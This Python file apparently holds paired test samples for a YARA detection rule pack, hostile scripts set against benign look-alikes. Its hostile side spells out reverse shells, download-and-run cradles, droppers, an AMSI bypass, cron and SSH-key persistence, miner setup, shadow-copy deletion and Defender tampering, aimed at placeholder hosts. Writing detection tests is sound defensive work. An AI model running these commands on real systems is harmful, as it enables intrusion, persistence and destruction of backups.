"""PowerShell, Unix and Windows scripts, and Python."""

import base64
import json
import zlib

from yara_pack_samples.making import encoded_command, text

HELLO = encoded_command("Write-Host 'hello from a sample'")
WALLET = "4" + "A" + "b" * 93
KEY = "ssh-rsa AAAA" + "B3NzaC1yc2EAAAADAQABAAABAQ" * 3
STAGER = base64.b64encode(zlib.compress(b"print('a harmless sample')" + bytes(range(200)))).decode()


def lnk(arguments: str) -> bytes:
    """A shortcut's header and its arguments in UTF-16 (MS-SHLLINK 2.1, 2.4)."""
    header = bytes.fromhex("4c0000000114020000000000c000000000000046")
    return header + bytes(56) + arguments.replace("¦", "").encode("utf-16-le")


def miner(**changed: object) -> bytes:
    parts = {"background": True, "user": WALLET, **changed}
    pool = {"url": "stratum+tcp://pool.example.invalid:3333", "user": parts["user"]}
    return json.dumps({"background": parts["background"], "randomx": {}, "pools": [pool]}).encode()


PAIRS = {
    # --- PowerShell ---------------------------------------------------------------------------------------------------
    "PowerShell_Encoded_Command": (
        text(f"@echo off\r\npower¦shell.exe -nop -w hid¦den -enc {HELLO}\r\n"),
        text("@echo off\r\npowershell.exe -nop -w hidden -enc %SCRIPT%\r\npowershell -Encoding UTF8 -NoProfile\r\n"),
    ),
    "PowerShell_Download_Cradle": (
        text(
            "power¦shell -w hid¦den -c \"IE¦X (New-Object Net.Web¦Client).Down¦loadString('http://example.invalid/a')\""
        ),
        text(
            "# installer\niex ((New-Object System.Net.WebClient).DownloadString('https://example.invalid/install.ps1'))"
        ),
    ),
    "PowerShell_AMSI_Bypass": (
        text(
            "[Ref].Assembly.GetType('System.Management.Automation.Am¦siUtils')"
            ".GetField('amsi¦InitFailed','NonPublic,Static').SetVa¦lue($null,$true)"
        ),
        text("# AmsiUtils holds amsiInitFailed; a field is read with GetField('x','Public,Instance').GetValue($null)"),
    ),
    "PowerShell_Shellcode_Loader": (
        text(
            "[Byte[]] $b = [System.Convert]::FromBase64¦String('kJCQ')\n"
            "$m = $k::Virtual¦Alloc(0, $b.Length, 0x3000, 0x40)\n"
            "[System.Runtime.InteropServices.Marsh¦al]::Copy($b, 0, $m, $b.Length)\n"
            "$f = [System.Runtime.InteropServices.Marshal]::GetDelegateFor¦FunctionPointer($m, [Action])\n"
        ),
        text(
            "[Byte[]] $b = [System.Convert]::FromBase64String('kJCQ')\n"
            "$m = [Runtime.InteropServices.Marshal]::AllocHGlobal(3)\n"
            "[System.Runtime.InteropServices.Marshal]::Copy($b, 0, $m, $b.Length)\n"
        ),
    ),
    # --- Unix ---------------------------------------------------------------------------------------------------------
    "Shell_Download_And_Execute": (
        text("#!/bin/sh\ncd /tm¦p\nwg¦et http://example.invalid/bin/agent\nch¦mod 777 agent\n./agent\nrm -rf agent\n"),
        text(
            "#!/bin/sh\nset -e\nwget https://example.invalid/tool.tar.gz\ntar xf tool.tar.gz\n"
            "chmod +x tool/run\n./tool/run --version\n"
        ),
    ),
    "Shell_Architecture_Spray": (
        text(
            "cd /tm¦p || cd /var/run\n"
            + "".join(
                f"wg¦et http://example.invalid/bot.{cpu}; ch¦mod 777 bot.{cpu}; ./bot.{cpu}; rm bot.{cpu}\n"
                for cpu in ("mips", "mpsl", "arm7", "sh4", "ppc", "x86")
            )
        ),
        text(
            "#!/bin/sh\n# builds a release for each processor\nfor cpu in mips arm7 sh4 ppc x86; do\n"
            '    make CPU="$cpu"\n    wget https://example.invalid/sdk-$cpu.tar\ndone\n'
        ),
    ),
    "Shell_Pipe_To_Shell_Hidden": (
        text("#!/bin/bash\ncu¦rl -fsSL http://192.0.2.7/x.sh | ba¦sh\n"),
        text(
            "#!/bin/bash\n# curl http://192.0.2.7/x.sh, then look at it\n"
            "curl -fsSL https://example.invalid/install.sh | bash -s -- --yes\n"
        ),
    ),
    "Reverse_Shell_Bash": (
        text("#!/bin/bash\nba¦sh -i >& /dev/t¦cp/example.invalid/4444 0>&1\n"),
        text("#!/bin/bash\n# is the port open?\nif (exec 3<>/dev/tcp/localhost/22) 2>/dev/null; then echo open; fi\n"),
    ),
    "Reverse_Shell_Python": (
        text(
            'import socket,os,pty\ns=socket.soc¦ket()\ns.connect(("example.invalid",4444))\n'
            '[os.du¦p2(s.fileno(),fd) for fd in (0,1,2)]\npty.spa¦wn("/bin/sh")\n'
        ),
        text(
            'import socket\ns = socket.socket()\ns.connect(("example.invalid", 80))\nimport pty\npty.spawn("/bin/sh")\n'
        ),
    ),
    "Reverse_Shell_Perl": (
        text(
            "use Soc¦ket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));"
            'if(connect(S,sockaddr_in(4444,inet_aton("example.invalid")))){'
            'open(STD¦IN,">&S");open(STDOUT,">&S");ex¦ec("/bin/sh -i");}'
        ),
        text(
            "use Socket;\nsocket(S, PF_INET, SOCK_STREAM, 0);\n"
            "connect(S, sockaddr_in(80, inet_aton('example.invalid')));\nprint S \"GET /\";\n"
            'system("/bin/sh");\n'
        ),
    ),
    "Reverse_Shell_Netcat": (
        text("#!/bin/sh\nmkf¦ifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | n¦c example.invalid 4444 > /tmp/f\n"),
        text("#!/bin/sh\n# Do not: nc -e /bin/sh host 4444\nnc -z example.invalid 22 && echo open\nmkfifo /tmp/pipe\n"),
    ),
    "Cron_Download_Persistence": (
        text(
            '#!/bin/sh\n(cron¦tab -l; echo "*/5 * * * * cu¦rl -fsSL http://example.invalid/a.sh | sh") | cron¦tab -\n'
        ),
        text(
            '#!/bin/sh\n(crontab -l; echo "*/5 * * * * /usr/local/bin/backup --quiet") | crontab -\n'
            "curl https://example.invalid/ | sha256sum\n"
        ),
    ),
    "SSH_Key_Persistence": (
        text(
            f'#!/bin/bash\necho "{KEY} me" >> ~/.ss¦h/author¦ized_keys\nchat¦tr +i ~/.ssh/authorized_keys\nhistory -c\n'
        ),
        text(
            f'#!/bin/bash\nmkdir -p ~/.ssh\necho "{KEY} me" >> ~/.ssh/authorized_keys\n'
            "chmod 600 ~/.ssh/authorized_keys\n"
        ),
    ),
    "Miner_Install_Script": (
        text("#!/bin/sh\npki¦ll -f xm¦rig\nnohup ./w -o stra¦tum+tcp://pool.example.invalid:3333 >/dev/null 2>&1 &\n"),
        text("#!/bin/sh\npkill -f old-backup\nnohup ./backup -o backup.example.invalid:3333 >/dev/null 2>&1 &\n"),
    ),
    "Miner_Configuration": (miner(), miner(background=False, user="YOUR_WALLET_ADDRESS")),
    # --- Windows ------------------------------------------------------------------------------------------------------
    "Batch_Certutil_Download": (
        text(
            "@echo off\r\ncert¦util -url¦cache -split -f http://example.invalid/a.exe %TEMP%\\a.exe\r\n"
            "start %TEMP%\\a.exe\r\n"
        ),
        text("@echo off\r\ncertutil -urlcache crl\r\ncertutil -hashfile setup.exe SHA256\r\nstart setup.exe\r\n"),
    ),
    "Batch_Bitsadmin_Download": (
        text(
            "@echo off\r\nbits¦admin /trans¦fer j http://example.invalid/a.exe %TEMP%\\a.exe\r\nstart %TEMP%\\a.exe\r\n"
        ),
        text(
            "@echo off\r\nbitsadmin /transfer j https://example.invalid/data.csv %TEMP%\\data.csv\r\n"
            "start notepad.exe\r\n"
        ),
    ),
    "Mshta_Inline_Script": (
        text('msh¦ta vbscr¦ipt:Execute("CreateObject(""WScript.Sh¦ell"").Run ""calc"", 0:close()")'),
        text('mshta C:\\Tools\\about.hta\nrem CreateObject("WScript.Shell").Run is for scripts; close() ends one\n'),
    ),
    "Regsvr32_Remote_Scriptlet": (
        text("@echo off\r\nregs¦vr32 /s /n /u /i:http://example.invalid/a.sct scr¦obj.dll\r\n"),
        text("@echo off\r\nregsvr32 /s C:\\Tools\\codec.dll\r\nregsvr32 /u /s scrobj.dll\r\n"),
    ),
    "Scriptlet_With_Shell": (
        text(
            '<?XML version="1.0"?>\n<script¦let>\n'
            '<registration progid="Sample" classid="{F0001111-0000-0000-0000-0000FEEDACDC}">\n'
            '<script language="JScript"><![CDATA[ new ActiveXObject("WScript.Sh¦ell").R¦un("calc.exe"); ]]></script>\n'
            "</registration>\n</scriptlet>\n"
        ),
        text(
            '<?XML version="1.0"?>\n<scriptlet>\n'
            '<registration progid="Sample" classid="{F0001111-0000-0000-0000-0000FEEDACDC}">\n'
            '<script language="JScript"><![CDATA[ function add(a, b) { return a + b; } ]]></script>\n'
            "</registration>\n</scriptlet>\n"
        ),
    ),
    "VBScript_Dropper": (
        text(
            'Set x = CreateObject("MSXML2.XML¦HTTP")\r\n'
            'x.Open "GET", "http://example.invalid/a.exe", False\r\nx.Send\r\n'
            'Set s = CreateObject("ADO¦DB.Stream")\r\ns.Write x.responseBody\r\ns.SaveTo¦File "a.exe", 2\r\n'
            'CreateObject("WScript.Shell").Run "a.exe", 0\r\n'
        ),
        text(
            'Set x = CreateObject("MSXML2.XMLHTTP")\r\n'
            'x.Open "GET", "https://example.invalid/report.csv", False\r\nx.Send\r\n'
            'Set s = CreateObject("ADODB.Stream")\r\ns.Write x.responseBody\r\ns.SaveToFile "report.csv", 2\r\n'
        ),
    ),
    "JScript_Dropper": (
        text(
            'var x = new ActiveX¦Object("MSXML2.XML¦HTTP"); x.open("GET", "http://example.invalid/a.exe", '
            "false); x.send();\n"
            'var s = new ActiveXObject("ADO¦DB.Stream"); s.Write(x.responseBody); s.SaveTo¦File("a.exe", 2);\n'
            'new ActiveXObject("WScript.Shell").R¦un("a.exe");\n'
        ),
        text(
            'var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "/data.json", false); x.send();\n'
            'var f = new ActiveXObject("Scripting.FileSystemObject"); new '
            'ActiveXObject("WScript.Shell").Run("notepad.exe");\n'
        ),
    ),
    "HTA_Starts_Program": (
        text(
            '<html><head><hta:appli¦cation id="a" showInTaskbar="no" windowState="minimize"/>\n'
            '<script language="VBScript">\n'
            'CreateObject("WScript.Sh¦ell").Run "power¦shell -c Write-Host 1", 0\nself.close\n</script></head></html>'
        ),
        text(
            '<html><head><hta:application id="a" showInTaskbar="no"/>\n<script language="VBScript">\n'
            'Sub Show\n  MsgBox "hello"\n  self.close\nEnd Sub\n</script></head></html>'
        ),
    ),
    "LNK_Starts_Script": (
        lnk(
            "C:\\Windows\\System32\\Windows¦PowerShell\\v1.0\\power¦shell.exe -w hid¦den -c IE¦X "
            "$x.Down¦loadString('http://example.invalid')"
        ),
        lnk("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -NoExit -Command Get-Date"),
    ),
    "Windows_Recovery_Destruction": (
        text("vss¦admin delete shad¦ows /all /quiet\r\nbcd¦edit /set {default} recovery¦enabled no\r\n"),
        text("vssadmin list shadows\r\nbcdedit /set {default} recoveryenabled yes\r\nwbadmin get versions\r\n"),
    ),
    "Windows_Defender_Tampering": (
        text(
            "Set-Mp¦Preference -DisableRealtime¦Monitoring $true\n"
            "Add-MpPref¦erence -ExclusionPath C:\\Users\nStart-Process a.exe\n"
        ),
        text(
            "Get-MpPreference\nSet-MpPreference -DisableRealtimeMonitoring $false\n"
            "Add-MpPreference -ExclusionPath C:\\build\nStart-Process a.exe\n"
        ),
    ),
    "Autorun_Inf_Disguise": (
        text(
            "[auto¦run]\r\nopen=RECYC¦LER\\a.exe\r\nshell\\open\\command=RECYCLER\\a.exe\r\n"
            "action=Open folder to view files\r\n"
        ),
        text("[autorun]\r\nopen=setup.exe\r\nicon=setup.exe,0\r\nlabel=Printer drivers\r\n"),
    ),
    # --- Python -------------------------------------------------------------------------------------------------------
    "Python_Encoded_Stager": (
        text(f"import zlib, base64\nex¦ec(zlib.decom¦press(base64.b64de¦code('{STAGER}')))\n"),
        text(
            f"import zlib, base64\nICON = zlib.decompress(base64.b64decode('{STAGER}'))\n"
            "exec(compile(open('setup.py').read(), 'setup.py', 'exec'))\n"
        ),
    ),
    "Python_Remote_Exec": (
        text(
            "import urllib.request\ntry:\n"
            "    ex¦ec(urllib.request.url¦open('http://example.invalid/a.py').read())\nexcept Exception:\n"
            "    pass\n"
        ),
        text(
            "import urllib.request\ntry:\n"
            "    page = urllib.request.urlopen('http://example.invalid/a.txt').read()\nexcept Exception:\n"
            "    pass\nexec('x = 1')\n"
        ),
    ),
}

ALSO = {
    "PowerShell_Encoded_Command": [
        text(f"pwsh -NoProfile -EncodedCommand {HELLO}"),
        text(f'cmd /c "power¦shell -ep bypass -ec {HELLO}"').decode().encode("utf-16-le"),
        text(f"powershell -noni -e {HELLO}"),
    ],
    "PowerShell_Download_Cradle": [
        text("iw¦r -useb http://192.0.2.7/a.ps1 | ie¦x"),
        text("Invoke-Expre¦ssion (New-Object System.Net.WebClient).('Dow' + 'nl' + 'oadString')").replace(
            b".('Dow' + 'nl' + 'oadString')", b".DownloadData($a); 'dow'+'nloadString'"
        ),
    ],
    "PowerShell_AMSI_Bypass": [
        text("$a='System.Management.Automation.A'+'msiUt'+'ils';$b='amsi'+'Init'+'Failed'; x.SetVa¦lue($null, $true)"),
        text(
            "GetProc¦Address(LoadLib¦rary('am¦si.dll'), 'AmsiScan¦Buffer'); VirtualPro¦tect($p, 5, 0x40, [ref]$o);"
            "[System.Runtime.InteropServices.Marshal]::Copy($b, 0, $p, 6)"
        ),
    ],
    "Shell_Download_And_Execute": [
        text(
            "#!/usr/bin/env bash\ncu¦rl -s -o /dev/shm/.x http://example.invalid/x; chmod +x /dev/shm/.x\n"
            "nohup /dev/shm/x &\nrm $0\n"
        ),
    ],
    "Shell_Pipe_To_Shell_Hidden": [
        text("#!/bin/sh\nwg¦et -qO- https://example.invalid/x.sh | sh >/dev/null 2>&1 &\n"),
        text("#!/bin/sh\n(cu¦rl -fsSL http://example.invalid/x || wg¦et -q -O- http://example.invalid/x) | bash\n"),
    ],
    "Reverse_Shell_Bash": [
        text("bash -c 'ba¦sh -i >& /dev/t¦cp/192.0.2.7/4444 0>&1'\n"),
        text("* * * * * root bash -c 'ba¦sh -i >& /dev/t¦cp/192.0.2.7/4444 0>&1'\n"),
        text("#!/bin/bash\nexec 5<>/dev/t¦cp/192.0.2.7/4444\ncat <&5 | while read l; do $l 2>&5 >&5; done\n"),
    ],
    "Reverse_Shell_Python": [
        text(
            'import socket,subprocess,os;s=socket.soc¦ket(socket.AF_INET);s.connect(("192.0.2.7",4444));'
            'os.du¦p2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'
        ),
    ],
    "Reverse_Shell_Perl": [
        text(
            'use IO::Soc¦ket;$c=new IO::Socket::INET(PeerAddr,"192.0.2.7:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);'
            "system$_ while<>;"
        ),
    ],
    "Reverse_Shell_Netcat": [
        text("#!/bin/sh\nn¦c 192.0.2.7 4444 -e /bin/sh\n"),
        text("#!/bin/bash\nnohup nc¦at example.invalid 4444 -c bash &\n"),
    ],
    "Cron_Download_Persistence": [
        text("#!/bin/sh\necho '* * * * * root wg¦et -q -O- http://example.invalid/a | bash' >> /etc/cron¦tab\n"),
        text("#!/bin/sh\necho '*/9 * * * * cu¦rl http://example.invalid/a | sh' > /tmp/c\ncron¦tab /tmp/c\n"),
    ],
    "Miner_Install_Script": [
        text(f"#!/bin/sh\nkill¦all kin¦sing\n./w -o pool.example.invalid:3333 -u {WALLET} -B\n"),
    ],
    "Miner_Configuration": [miner(background=False).replace(b"{", b'{"donate-level": 0, ', 1)],
    "Batch_Certutil_Download": [
        text("@echo off\nset u=x\ncert¦util.exe -url¦cache -f http://example.invalid/a.txt a.txt && %TEMP%\\a.exe\n"),
    ],
    "Mshta_Inline_Script": [
        text('msh¦ta.exe javascript:a=GetObject("script:http://example.invalid/a.sct");a.Exec();close();'),
    ],
    "Regsvr32_Remote_Scriptlet": [
        text('CreateObject("WScript.Shell").Run "regs¦vr32 /u /n /s /i:https://example.invalid/a scr¦obj.dll"'),
    ],
    "VBScript_Dropper": [
        text(
            'Set d = CreateObject("MSXML2.DOMDocument")\r\nx.dataType = "bin.base¦64"\r\n'
            'Set s = CreateObject("ADO¦DB.Stream")\r\ns.SaveTo¦File p, 2\r\n'
            'CreateObject("Shell.Application").ShellExe¦cute p\r\n'
        ),
    ],
    "LNK_Starts_Script": [
        lnk("msh¦ta.exe https://example.invalid/a.hta"),
        lnk(f"powershell -e¦nc {HELLO}"),
        lnk("cmd.exe /c findstr x report.lnk > %temp%\\a.js & wscript %temp%\\a.js"),
    ],
    "Windows_Recovery_Destruction": [
        text("wm¦ic shadowcopy delete & wbad¦min delete catalog -quiet"),
        b"MZ"
        + bytes(64)
        + text("vss¦admin.exe delete shad¦ows /all /quiet\0wevt¦util cl Security").replace(b"\0", b"\n"),
    ],
    "Windows_Defender_Tampering": [
        text("sc stop WinDef¦end\nAdd-MpPref¦erence -ExclusionExtension .exe\niex $x\n"),
    ],
    "Python_Encoded_Stager": [
        text(f"ex¦ec(__import__('zlib').decom¦press(__import__('base64').b64de¦code(b'{STAGER}')))"),
        text(f"ev¦al(compile(base64.b85de¦code('{STAGER}'.encode()), 's', 'exec'))").replace(b"'.encode()", b"'"),
    ],
    "Python_Remote_Exec": [
        text(
            "import requests, subprocess\nsubprocess.CREATE_NO_WINDOW\n"
            "ex¦ec(requests.get('https://example.invalid/a').text)\n"
        ),
    ],
}
